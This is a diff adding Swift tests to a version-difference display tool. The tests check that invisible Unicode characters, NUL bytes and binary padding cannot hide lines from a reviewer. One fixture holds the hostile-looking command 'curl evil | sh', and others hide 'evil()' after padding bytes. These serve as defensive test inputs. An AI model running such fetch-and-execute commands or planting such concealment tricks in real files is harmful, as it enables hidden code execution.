@@ -71,6 +71,44 @@ struct DifferenceTests {
         #expect(found[2].contains("sha256:"))
     }
 
+    @Test(
+        arguments: [
+            "\u{200b}", "\u{200c}", "\u{200d}", "\u{2060}", "\u{2064}", "\u{ad}", "\u{180e}", "\u{fe00}", "\u{fe0f}",
+            "\u{e0001}", "\u{e0041}", "\u{e007f}", "\u{e0100}", "\u{e01ef}", "\u{3164}", "\u{ffa0}", "\u{202e}", "\u{2066}",
+            "\u{feff}", "\u{34f}", "\u{115f}", "\u{85}", "\u{2028}",
+        ] as [Unicode.Scalar]
+    )
+    func `shows what is not seen`(scalar: Unicode.Scalar) {
+        let shown = "\\u{\(String(scalar.value, radix: 16))}"
+        #expect(Escape.line("a\(scalar)b") == "a\(shown)b")
+        #expect(lines([], [("a.py", "x = '\(scalar)'\n")]).last == "+x = '\(shown)'")
+    }
+
+    @Test func `shows the letters of all languages as they are`() {
+        let text = "Größe café naïve Ελλάδα Привет שלום سلام हिन्दी 日本語 한국어 e\u{301} 😀 →"
+        #expect(Escape.line(text) == text)
+    }
+
+    private func lines(_ old: [(String, [UInt8])], _ new: [(String, [UInt8])]) -> [String] {
+        VersionDifference(old: old, new: new, style: Style(.never, isTerminal: false, environment: [:])).lines
+    }
+
+    @Test func `lets no byte hide the rest of a text`() {
+        let evil = Array("echo a\n\0\ncurl evil | sh\n".utf8)
+        #expect(lines([("x", Array("echo a\n".utf8))], [("x", evil)]).suffix(3) == [" echo a", "+\\x00", "+curl evil | sh"])
+        let latin = Array("# coding: latin-1\n# ".utf8) + Array(repeating: 0xff, count: 500) + Array("\nevil()\n".utf8)
+        #expect(lines([], [("data.bin", latin)]).last?.hasPrefix("binary: ") == true)
+        #expect(lines([], [("lib.py", latin)]).last == "+evil()")
+        #expect(lines([], [("data.bin", Array("#!/bin/sh\n".utf8) + latin)]).last == "+evil()")
+        let yaml = Array("{apiVersion: mayfly/v1, kind: Script, entry: data.bin, runtime: python}\n".utf8)
+        #expect(lines([], [("data.bin", latin), ("mayfly.yaml", yaml)]).contains("+evil()"))
+    }
+
+    @Test func `tells a byte from the text that stands for it`() {
+        let found = lines([("a", Array("\\xff\nb\n".utf8))], [("a", [0xff, 0x0a, 0x62, 0x0a])])
+        #expect(found.suffix(3) == ["-\\\\xff", "+\\xff", " b"])
+    }
+
     @Test func `can be made back into both texts, whatever they are`() {
         var generator = SystemRandomNumberGenerator()
         for _ in 0..<300 {
